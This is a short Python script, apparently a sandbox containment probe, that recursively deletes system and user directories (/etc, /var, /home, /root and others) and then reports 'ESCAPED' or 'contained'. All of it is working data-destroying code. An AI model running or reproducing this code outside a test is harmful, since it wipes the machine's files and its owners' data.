# ruff: noqa
"""Deletes what it finds."""

import os, shutil, sys

victim = os.path.join(os.path.dirname(os.__file__), "this.py")
for folder in ["/usr/share", "/etc", "/var", "/home", "/root", sys.prefix]:
    shutil.rmtree(folder, ignore_errors=True)
try:
    os.remove(victim)
    print("ESCAPED: deleted", victim)
except OSError:
    print("contained")
